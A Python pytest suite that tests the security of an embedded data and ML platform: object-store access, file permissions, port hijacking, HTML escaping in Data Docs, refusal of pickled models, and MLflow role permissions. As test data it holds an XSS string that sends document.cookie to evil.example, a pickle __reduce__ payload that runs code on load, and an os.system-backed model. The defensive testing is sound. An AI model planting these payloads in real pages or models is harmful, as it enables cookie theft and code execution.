"""Security of the embedded stack against another user of the same machine (who shares loopback):
only the object store's S3 endpoint takes anonymous connections (and refuses them), the state
directory is private, `platform up` never talks to a server it did not start, Data Docs escape
data values, and the registry loads skops models only."""

from __future__ import annotations

import html
import http.client
import http.server
import os
import secrets
import socket
import ssl
import stat
import subprocess
import threading
import time
from pathlib import Path
from urllib.parse import urlparse

import grpc
import numpy as np
import pandas as pd
import pytest

from pipelines import services

SECRET = b"secret reading of device-7: " + secrets.token_hex(16).encode()
XSS = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">'


# -- what the store's processes really listen on (read from /proc, independent of services.py) -------
def _group(pgid: int) -> list[int]:
    members = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                fields = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[2]) == pgid:
                members.append(int(entry))
    return members


def _socket_inodes(pids: list[int]) -> set[int]:
    inodes = set()
    for pid in pids:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(int(target[8:-1]))
    return inodes


def listening_tcp_ports(pgid: int) -> dict[int, str]:
    """Every TCP port (v4 and v6) a process of group `pgid` listens on, with its local address."""
    inodes = _socket_inodes(_group(pgid))
    ports = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            f = line.split()
            if f[3] == "0A" and int(f[9]) in inodes:
                addr, port = f[1].rsplit(":", 1)
                ports[int(port, 16)] = addr
    return ports


def listening_unix_sockets(pgid: int) -> list[str]:
    inodes = _socket_inodes(_group(pgid))
    paths = []
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        f = line.split()
        if len(f) >= 8 and int(f[6]) in inodes and int(f[3], 16) & 0x10000:  # __SO_ACCEPTCON: listening
            paths.append(f[7])
    return paths


def _plain_http(port: int, method: str, path: str) -> tuple[int | None, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        conn.request(method, path, body=b"planted by an anonymous user" if method == "PUT" else None)
        resp = conn.getresponse()
        return resp.status, resp.read()
    except (OSError, http.client.HTTPException):
        return None, b""
    finally:
        conn.close()


def _tls_handshake(port: int, cert: tuple[Path, Path] | None, ca: Path) -> bool:
    ctx = ssl.create_default_context(cafile=str(ca))
    ctx.check_hostname = False
    if cert:
        ctx.load_cert_chain(str(cert[0]), str(cert[1]))
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
            with ctx.wrap_socket(raw) as tls:
                # TLS 1.3: a missing client certificate is reported on the first read, not the handshake.
                tls.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                tls.settimeout(5)
                tls.recv(1)
        return True
    except (OSError, ssl.SSLError):
        return False


def _grpc_code(port: int, credentials: grpc.ChannelCredentials | None) -> grpc.StatusCode:
    target = f"127.0.0.1:{port}"
    channel = grpc.secure_channel(target, credentials) if credentials else grpc.insecure_channel(target)
    with channel:
        call = channel.unary_unary("/master_pb.Seaweed/NoSuchMethod", lambda b: b, lambda b: b)
        try:
            call(b"", timeout=5)
        except grpc.RpcError as e:
            return e.code()
    return grpc.StatusCode.OK


# -- 1. the object store: one authenticated port, nothing else reachable --------------------------
def test_only_the_s3_endpoint_takes_anonymous_connections_and_refuses_them(settings, store):
    pid = services._read_pid(settings, "object-store")
    assert pid, "the session's object store is not running"
    s3_port = urlparse(settings.s3_endpoint_url).port
    ports = listening_tcp_ports(pid)
    assert s3_port in ports
    internal = sorted(set(ports) - {s3_port})
    assert len(internal) >= 6, f"expected master/volume/filer HTTP+gRPC listeners, found {ports}"

    bucket = settings.lake_bucket
    store.put_bytes(bucket, "security/secret.txt", SECRET)
    tls_dir = settings.state_dir / "s3" / "security"
    ca, cert = tls_dir / "ca.pem", (tls_dir / "store.pem", tls_dir / "store.key")
    anonymous_tls = grpc.ssl_channel_credentials(root_certificates=ca.read_bytes())
    with_key = grpc.ssl_channel_credentials(ca.read_bytes(), cert[1].read_bytes(), cert[0].read_bytes())

    for port in internal:
        # The attacks of the probe, on every listener: read metadata/data, plant a file, delete one.
        for method, path in (
            ("GET", "/dir/status"),
            ("GET", f"/buckets/{bucket}/security/secret.txt"),
            ("GET", f"/buckets/{bucket}/security/?pretty=y"),
            ("PUT", f"/buckets/{bucket}/security/planted.txt"),
            ("DELETE", f"/buckets/{bucket}/security/secret.txt"),
        ):
            status, body = _plain_http(port, method, path)
            assert status is None or status >= 400, f"anonymous {method} {path} on port {port}: {status}"
            assert SECRET not in body
        assert not _tls_handshake(port, None, ca), f"port {port} completed TLS without a client certificate"
        assert _grpc_code(port, None) == grpc.StatusCode.UNAVAILABLE, f"port {port}: plaintext gRPC"
        assert _grpc_code(port, anonymous_tls) == grpc.StatusCode.UNAVAILABLE, f"port {port}: TLS gRPC"
        # Control: with the store's own key the same port is reachable, so the refusals above are the
        # client-certificate check, not a dead port.
        assert _tls_handshake(port, cert, ca) or _grpc_code(port, with_key) != grpc.StatusCode.UNAVAILABLE

    # Nothing planted, nothing deleted; the S3 endpoint refuses anonymous requests, serves keyed ones.
    assert not store.exists(bucket, "security/planted.txt")
    assert store.get_bytes(bucket, "security/secret.txt") == SECRET
    for method in ("GET", "PUT", "DELETE"):
        status, body = _plain_http(s3_port, method, f"/{bucket}/security/secret.txt")
        assert status == 403 and SECRET not in body
    assert store.get_bytes(bucket, "security/secret.txt") == SECRET

    # Unix sockets of the store: in the private state directory, or private themselves.
    for path in listening_unix_sockets(pid):
        if path.startswith("@"):
            pytest.fail(f"abstract unix socket {path}: reachable by any local user")
        sock = Path(path)
        inside = sock.resolve().is_relative_to(settings.state_dir)
        assert inside or stat.S_IMODE(sock.stat().st_mode) & 0o077 == 0, f"{path} is open to other users"


# -- 2. every file the stack writes is its owner's alone ------------------------------------------
def _modes(root: Path) -> dict[Path, int]:
    return {p: stat.S_IMODE(p.lstat().st_mode) for p in [root, *root.rglob("*")] if not p.is_symlink()}


def test_state_directory_is_private_after_up_and_after_writes(settings, store, state_dir):
    import mlflow

    # Writes after `up`: a new bucket (new volume files), an MLflow run with an artifact.
    store.ensure_buckets("security-probe")
    store.put_bytes("security-probe", "a.bin", os.urandom(200_000))
    mlflow.set_tracking_uri(settings.mlflow_tracking_uri)
    mlflow.set_experiment("security-tests")
    with mlflow.start_run():
        mlflow.log_metric("m", 1.0)
        mlflow.log_text("hello", "note.txt")

    modes = _modes(state_dir)
    assert stat.S_IMODE(state_dir.stat().st_mode) == 0o700
    for path in ("stack.env", "mlflow/mlflow.db", "airflow/airflow.db", "s3/identities.json", "s3/security/store.key"):
        assert modes[state_dir / path] == 0o600, f"{path}: {oct(modes[state_dir / path])}"
    data = list((state_dir / "s3" / "data").glob("security-probe_*.dat"))
    assert data, "no volume file for the new bucket"
    # What the stack's servers and `up` write (other tests of a session also write files here from
    # the test process itself, with its umask: the 0700 directories above are what guard those).
    written_by_stack = [state_dir / d for d in ("s3", "mlflow", "pids", "logs/weed")]
    for path, mode in modes.items():
        if path.is_dir():
            assert mode & 0o077 == 0, f"{path} is {oct(mode)}"
        elif not (
            any(path.is_relative_to(d) for d in written_by_stack)
            or path.parent == state_dir / "logs"
            or path in (state_dir / "stack.env", state_dir / "airflow" / "airflow.db")
        ):
            continue
        elif path.suffix == ".vif":
            # SeaweedFS chmods its volume-info files 0644 itself (the umask doesn't reach it); they
            # hold no object data, sit in 0700 directories, and `platform up` tightens them.
            continue
        else:
            assert mode & 0o077 == 0, f"{path} is {oct(mode)}"
    for path in data:
        assert modes[path] == 0o600 and modes[path.with_suffix(".idx")] == 0o600

    # `up` tightens whatever a server left open (and a state directory from an older version).
    loose = state_dir / "s3" / "data" / "legacy.dat"
    loose.write_bytes(b"x")
    loose.chmod(0o644)
    services.make_state_private(state_dir)
    assert stat.S_IMODE(loose.stat().st_mode) == 0o600
    assert all(m & 0o077 == 0 for m in _modes(state_dir / "s3").values())
    loose.unlink()

    # The store's gRPC sockets that `weed mini` puts in /tmp are private too.
    for sock in services._store_grpc_sockets(settings):
        if sock.exists():
            assert stat.S_IMODE(sock.stat().st_mode) & 0o077 == 0, f"{sock} is open to other users"


def test_airflow_admin_password_file_is_private(settings):
    """The api-server writes the UI admin password; started the way `platform up` starts it."""
    name = "airflow-api-server"
    port = services.free_port()
    env = {**settings.client_env(), **services.airflow_env(settings), "AIRFLOW__API__PORT": str(port)}
    password_file = settings.airflow_home / "simple_auth_manager_passwords.json.generated"
    password_file.unlink(missing_ok=True)
    services._spawn(settings, name, [services._bin("airflow"), "api-server", "--port", str(port)], env=env)
    try:
        deadline = time.time() + 180
        while not (password_file.exists() and password_file.stat().st_size) and time.time() < deadline:
            assert services._read_pid(settings, name), services._log_tail(settings, name)
            time.sleep(1)
        assert password_file.exists(), "the api-server wrote no password file"
        assert stat.S_IMODE(password_file.stat().st_mode) == 0o600
        assert stat.S_IMODE((settings.state_dir / "logs" / f"{name}.log").stat().st_mode) == 0o600
    finally:
        services._stop(settings, name)


# -- 3. `platform up` only talks to servers it started -----------------------------------------
class _Recorder(http.server.BaseHTTPRequestHandler):
    """A foreign server: answers everything 200 and records each request it receives."""

    def _any(self):
        self.server.requests.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_GET = do_PUT = do_POST = do_HEAD = do_DELETE = _any

    def log_message(self, *args):
        pass


@pytest.fixture
def foreign_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.requests = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def test_a_taken_recorded_port_gets_a_new_one_and_the_holder_is_never_asked(own_state, foreign_server):
    from pipelines.settings import get_settings
    from pipelines.storage import ObjectStore

    taken = foreign_server.server_address[1]
    services.write_stack_env(get_settings(), {"AWS_ENDPOINT_URL": f"http://127.0.0.1:{taken}"})
    messages: list[str] = []
    services.start_object_store(get_settings(), progress=messages.append)

    settings = get_settings()
    port = urlparse(settings.s3_endpoint_url).port
    assert port != taken
    assert f"AWS_ENDPOINT_URL=http://127.0.0.1:{port}" in (own_state / "stack.env").read_text()
    assert any(str(taken) in m and f"pid {os.getpid()}" in m for m in messages), messages  # names the holder
    assert foreign_server.requests == [], "our keys went to a server we did not start"
    pid = services._read_pid(settings, "object-store")
    assert services.pid_listens_on(pid, port) and not services.pid_listens_on(pid, taken)
    ObjectStore(settings).put_bytes(settings.lake_bucket, "k", b"v")
    assert ObjectStore(settings).get_bytes(settings.lake_bucket, "k") == b"v"


def test_a_taken_derived_port_is_checked_before_the_store_starts(own_state):
    from pipelines.settings import get_settings
    from pipelines.storage import ObjectStore

    s3_port = next(p for p in iter(services.free_port, None) if services.port_is_free(p + services.GRPC_OFFSET))
    holder = socket.socket()
    holder.bind(("127.0.0.1", s3_port + services.GRPC_OFFSET))  # weed's default gRPC port for it
    holder.listen()
    holder.settimeout(0.2)
    try:
        services.write_stack_env(get_settings(), {"AWS_ENDPOINT_URL": f"http://127.0.0.1:{s3_port}"})
        services.start_object_store(get_settings(), progress=lambda *_: None)
        settings = get_settings()
        pid = services._read_pid(settings, "object-store")
        listening = listening_tcp_ports(pid)
        assert s3_port in listening and s3_port + services.GRPC_OFFSET not in listening
        assert ObjectStore(settings).list_keys(settings.lake_bucket) == []
        with pytest.raises(TimeoutError):
            holder.accept()  # nobody of ours connected to the foreign listener
    finally:
        holder.close()


def test_a_service_is_reused_only_if_our_process_listens_on_its_port(own_state, foreign_server):
    from pipelines.settings import get_settings

    settings = get_settings()
    taken = foreign_server.server_address[1]
    services.write_stack_env(settings, {"MLFLOW_TRACKING_URI": f"http://127.0.0.1:{taken}"})
    # A process of ours recorded as MLflow, alive but not what listens on the recorded port.
    sleeper = subprocess.Popen(["sleep", "300"], start_new_session=True)
    try:
        identity = f"{sleeper.pid} {services._start_time(sleeper.pid)}"
        services.write_private(services._pid_file(settings, "mlflow"), identity)
        report = services.status()["services"]["mlflow"]
        assert report["running"] and report["healthy"] is False
        assert foreign_server.requests == []
        assert services._our_service(get_settings(), "mlflow", taken) is None  # not reused: stopped
        sleeper.wait(timeout=30)
        assert services.choose_port(get_settings(), "MLFLOW_TRACKING_URI", "MLflow", 5000, lambda *_: None) != taken
        # A recycled PID (same number, another start time) is not ours either.
        services.write_private(services._pid_file(settings, "mlflow"), f"{os.getpid()} 1")
        assert services._read_pid(settings, "mlflow") is None
    finally:
        sleeper.kill()
        sleeper.wait()
        services._pid_file(settings, "mlflow").unlink(missing_ok=True)


# -- 4. Data Docs escape data values -----------------------------------------------------------------
def test_a_script_in_a_device_id_is_escaped_in_data_docs(store, settings):
    from pipelines.contracts import load_contract
    from pipelines.quality import validate_partition
    from pipelines.quality.docs import publish_data_docs

    ts = pd.date_range("2026-01-05", periods=6, freq="min", tz="UTC")
    frame = pd.DataFrame(
        {
            "device": [XSS, "device-1", "device-0", "device-1", "device-0", "device-1"],
            "ts": ts,
            "co": np.linspace(0.004, 0.006, 6),
            "humidity": np.linspace(40.0, 60.0, 6),
            "light": [True, False] * 3,
            "lpg": np.linspace(0.006, 0.008, 6),
            "motion": [False] * 6,
            "smoke": np.linspace(0.01, 0.02, 6),
            "temp": np.linspace(20.0, 25.0, 6),
            "label": pd.Series(["normal"] * 6, dtype="str"),
        }
    )
    frame["event_date"] = ts.date
    frame["_source_key"] = f"landing/iot/{XSS}.csv"
    frame["_source_line"] = np.arange(2, 8)
    result = validate_partition(
        frame,
        "silver",
        load_contract("iot_telemetry"),
        "event_date=2026-01-05",
        config={"known_devices": ["device-0", "device-1"]},
    )
    assert XSS in result.summary()  # the payload really is in the results the site is built from

    prefix = "data-docs-security-test/"
    index = publish_data_docs(store, [result.to_dict()], prefix=prefix)
    pages = [k for k in store.list_keys(settings.lake_bucket, prefix) if k.endswith(".html")]
    assert index in pages and len(pages) >= 2
    texts = {k: store.get_bytes(settings.lake_bucket, k).decode() for k in pages}
    for key, text in texts.items():
        assert XSS not in text and "<img src=x" not in text, f"{key} renders the payload as markup"
    assert any(html.escape(XSS, quote=True) in t for t in texts.values()), "the value is not shown at all"
    store.delete_keys(settings.lake_bucket, store.list_keys(settings.lake_bucket, prefix))


# -- 5. registry models load with skops only -------------------------------------------------------
class _Detonator:
    """Unpickling it creates a file: proof of code run by loading a model."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


def _register(uri: str, name: str, model, **log_kwargs) -> str:
    from mlflow.models import infer_signature

    import mlflow

    frame = pd.DataFrame({"x": [0.0, 1.0, 2.0]})
    mlflow.set_tracking_uri(uri)
    mlflow.set_experiment("security-tests")
    with mlflow.start_run():
        info = mlflow.sklearn.log_model(
            model,
            name="model",
            signature=infer_signature(frame, np.zeros(3)),
            registered_model_name=name,
            pip_requirements=["scikit-learn"],
            **log_kwargs,
        )
    return str(info.registered_model_version)


def test_registry_models_load_with_skops_and_trusted_types_only(settings, tmp_path, monkeypatch):
    from sklearn.ensemble import IsolationForest
    from sklearn.preprocessing import FunctionTransformer

    from mlflow import MlflowClient
    from pipelines import training
    from pipelines.serving.models import UntrustedModelError, load_version

    monkeypatch.delenv("MLFLOW_ALLOW_PICKLE_DESERIALIZATION", raising=False)
    uri = settings.mlflow_tracking_uri
    client = MlflowClient(tracking_uri=uri, registry_uri=uri)
    name = "security-" + secrets.token_hex(3)

    # A pickled version whose loading would run code: refused, nothing run.
    marker = tmp_path / "pwned"
    booby = FunctionTransformer(func=None, kw_args={"payload": _Detonator(str(marker))})
    version = _register(uri, name, booby, serialization_format="cloudpickle")
    marker.unlink(missing_ok=True)  # mlflow may round-trip the model while logging it
    with pytest.raises(UntrustedModelError, match=rf"{name} v{version} is refused: .*'cloudpickle'"):
        load_version(client, name, "champion", version, uri)
    assert not marker.exists(), "loading the refused version ran its payload"

    # A skops version whose own MLmodel trusts a dangerous type: our list decides, not the model's.
    evil = FunctionTransformer(func=os.system)
    version = _register(uri, name, evil, serialization_format="skops", skops_trusted_types=["posix.system"])
    with pytest.raises(UntrustedModelError, match=rf"{name} v{version} is refused: .*posix\.system"):
        load_version(client, name, "champion", version, uri)

    # Control: a platform model (skops, trusted types from the one list) loads and scores.
    model = training.AnomalyScorer(IsolationForest(n_estimators=5, random_state=0)).fit(
        pd.DataFrame({"x": np.arange(20.0)})
    )
    version = _register(
        uri, name, model, serialization_format="skops", skops_trusted_types=training.SKOPS_TRUSTED_TYPES
    )
    loaded = load_version(client, name, "champion", version, uri)
    assert loaded.columns == ["x"] and loaded.predict([{"x": 1.0}, {"x": 99.0}]).shape == (2,)
    assert "MLFLOW_ALLOW_PICKLE_DESERIALIZATION" not in os.environ


# -- MLflow: authentication, per-role users, and the alias audit ---------------------------------------
def _mlflow_status(settings, method: str, path: str, body: dict, user: str | None = None, password: str = "") -> int:
    """The HTTP status a request to the embedded MLflow server gets, anonymously or as `user`."""
    import base64
    import json

    port = urlparse(settings.mlflow_tracking_uri).port
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    headers = {"Content-Type": "application/json"}
    if user:
        headers["Authorization"] = "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
    try:
        if method == "GET":
            from urllib.parse import urlencode

            conn.request(method, f"{path}?{urlencode(body)}", headers=headers)
        else:
            conn.request(method, path, body=json.dumps(body), headers=headers)
        resp = conn.getresponse()
        resp.read()
        return resp.status
    finally:
        conn.close()


def _model_with_versions(settings, name: str, count: int = 2) -> list[str]:
    """A registered model with `count` versions (no artifacts needed for alias moves), as the admin."""
    from mlflow import MlflowClient

    client = MlflowClient(settings.mlflow_tracking_uri, registry_uri=settings.mlflow_tracking_uri)
    exp = client.get_experiment_by_name("security-tests")
    exp_id = exp.experiment_id if exp else client.create_experiment("security-tests")
    run = client.create_run(exp_id)
    client.create_registered_model(name)
    return [
        client.create_model_version(name, source=f"{run.info.artifact_uri}/model", run_id=run.info.run_id).version
        for _ in range(count)
    ]


ALIAS = "/api/2.0/mlflow/registered-models/alias"


def test_mlflow_refuses_anonymous_and_under_privileged_alias_moves(settings):
    from mlflow import MlflowClient
    from pipelines.services import MLFLOW_ROLE_GRANTS

    name = "auth-test-" + secrets.token_hex(4)
    v1, v2 = _model_with_versions(settings, name)
    client = MlflowClient(settings.mlflow_tracking_uri, registry_uri=settings.mlflow_tracking_uri)
    client.set_registered_model_alias(name, "champion", v1)
    move = {"name": name, "alias": "champion", "version": v2}
    champion = {"name": name, "alias": "champion"}

    # nobody without a login: not the alias, not the model (the anonymous requests)
    assert _mlflow_status(settings, "POST", ALIAS, move) == 401
    assert _mlflow_status(settings, "DELETE", ALIAS, champion) == 401
    assert _mlflow_status(settings, "POST", "/api/2.0/mlflow/registered-models/create", {"name": name + "-x"}) == 401
    assert _mlflow_status(settings, "DELETE", "/api/2.0/mlflow/registered-models/delete", {"name": name}) == 401
    assert _mlflow_status(settings, "POST", ALIAS, move, user="admin", password="wrong-password-123") == 401
    assert _mlflow_status(settings, "POST", ALIAS, move, user="canary", password="wrong-password-123") == 401

    def status(role: str, method: str, path: str, body: dict) -> int:
        return _mlflow_status(settings, method, path, body, user=role, password=settings.mlflow_role_password(role))

    assert set(MLFLOW_ROLE_GRANTS) == {"trainer", "gate", "canary", "scoring"}
    # the training code and the scoring service cannot move or delete champion
    for role in ("trainer", "scoring"):
        assert status(role, "POST", ALIAS, move) == 403, role
        assert status(role, "DELETE", ALIAS, champion) == 403, role
        # but they read the registry (the scoring service resolves champion)
        assert status(role, "GET", "/api/2.0/mlflow/registered-models/get", {"name": name}) == 200, role
    # the gate sets aliases but deletes none; neither it nor the canary deletes a version or the model
    assert status("gate", "DELETE", ALIAS, champion) == 403
    for role in ("gate", "canary"):
        assert status(role, "DELETE", "/api/2.0/mlflow/model-versions/delete", {"name": name, "version": v1}) == 403
        assert status(role, "DELETE", "/api/2.0/mlflow/registered-models/delete", {"name": name}) == 403
    assert client.get_registered_model(name).aliases == {"champion": v1}  # nothing above moved it

    # the roles that may: the gate sets challenger, the canary moves and deletes aliases
    assert status("gate", "POST", ALIAS, {"name": name, "alias": "challenger", "version": v2}) == 200
    assert status("canary", "POST", ALIAS, move) == 200
    assert status("canary", "DELETE", ALIAS, {"name": name, "alias": "challenger"}) == 200
    assert client.get_registered_model(name).aliases == {"champion": v2}
    client.delete_registered_model(name)  # the admin (the operator) may


def test_airflow_tasks_act_as_their_role_and_the_admin_is_never_switched(monkeypatch, settings):
    """A process that acts as a role user (Airflow's) takes the role of the task it runs; the operator's
    admin identity is never replaced by a task's."""
    from pipelines import services
    from pipelines.settings import airflow_task_mlflow_role, get_settings

    assert airflow_task_mlflow_role("iot_telemetry_training", "train") == "trainer"
    assert airflow_task_mlflow_role("iot_telemetry_training", "register") == "gate"
    assert airflow_task_mlflow_role("iot_telemetry_training", "gate") == "gate"
    assert airflow_task_mlflow_role("nab_machine_temp_canary", "evaluate") == "canary"
    assert airflow_task_mlflow_role("iot_telemetry_lakehouse", "bronze") == "trainer"

    env = services.airflow_env(settings)
    assert env["MLFLOW_TRACKING_USERNAME"] == "trainer"  # never the admin
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    for dag, task, role in (
        ("x_training", "gate", "gate"),
        ("x_canary", "evaluate", "canary"),
        ("x_training", "train", "trainer"),
    ):
        monkeypatch.setenv("AIRFLOW_CTX_DAG_ID", dag)
        monkeypatch.setenv("AIRFLOW_CTX_TASK_ID", task)
        assert get_settings().mlflow_username == role
        assert os.environ["MLFLOW_TRACKING_USERNAME"] == role
        assert os.environ["MLFLOW_TRACKING_PASSWORD"] == settings.mlflow_role_password(role)
    monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", "admin")
    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", settings.mlflow_password.get_secret_value())
    assert get_settings().mlflow_username == "admin"
    assert os.environ["MLFLOW_TRACKING_USERNAME"] == "admin"


def _canary_history(settings, params_file: Path) -> list[dict]:
    import json
    import sys

    out = subprocess.run(
        [str(Path(sys.executable).parent / "platform"), "canary", "history", "--json"],
        env={**os.environ, **settings.client_env(), "PLATFORM_PARAMS_FILE": str(params_file)},
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert out.returncode == 0, out.stderr[-3000:]
    return json.loads(out.stdout)


def test_an_alias_change_made_directly_in_mlflow_shows_up_in_canary_history(settings, tmp_path):
    import yaml

    from mlflow import MlflowClient
    from pipelines import registry
    from pipelines.settings import load_params

    name = "audit-test-" + secrets.token_hex(4)
    v1, v2 = _model_with_versions(settings, name)
    client = MlflowClient(settings.mlflow_tracking_uri, registry_uri=settings.mlflow_tracking_uri)
    client.set_registered_model_alias(name, "champion", v1)
    params = load_params()
    params.setdefault("canary", {})["model_name"] = name
    params_file = tmp_path / "params.yaml"
    params_file.write_text(yaml.safe_dump(params))

    first = _canary_history(settings, params_file)
    assert [e["event"] for e in first if e["source"] == "canary-log"] == ["aliases first recorded by the audit"]

    # someone moves champion in the MLflow UI / API, then deletes it: the platform did neither
    client.set_registered_model_alias(name, "champion", v2)
    outside = [e for e in _canary_history(settings, params_file) if "outside the platform" in e["event"]]
    assert len(outside) == 1 and outside[0]["event"] == "alias champion changed outside the platform"
    assert f"v{v1} -> v{v2}" in outside[0]["reason"] and outside[0]["actor"] == "unknown (outside the platform)"
    client.delete_registered_model_alias(name, "champion")
    outside = [e for e in _canary_history(settings, params_file) if "outside the platform" in e["event"]]
    assert [e["reason"].split(" (")[0] for e in outside] == [f"champion: v{v1} -> v{v2}", f"champion: v{v2} -> deleted"]

    # a move the platform makes (promotion: champion, and previous when there was one) is not "outside"
    registry.promote(
        name, v1, tracking_uri=settings.mlflow_tracking_uri, actor="oncall", reason="t", require_gate=False
    )
    registry.promote(
        name, v2, tracking_uri=settings.mlflow_tracking_uri, actor="oncall", reason="t", require_gate=False
    )
    events = _canary_history(settings, params_file)
    assert len([e for e in events if "outside the platform" in e["event"]]) == 2, events
    assert {"promoted (registry)", "demoted (registry)"} <= {e["event"] for e in events}
    client.delete_registered_model(name)
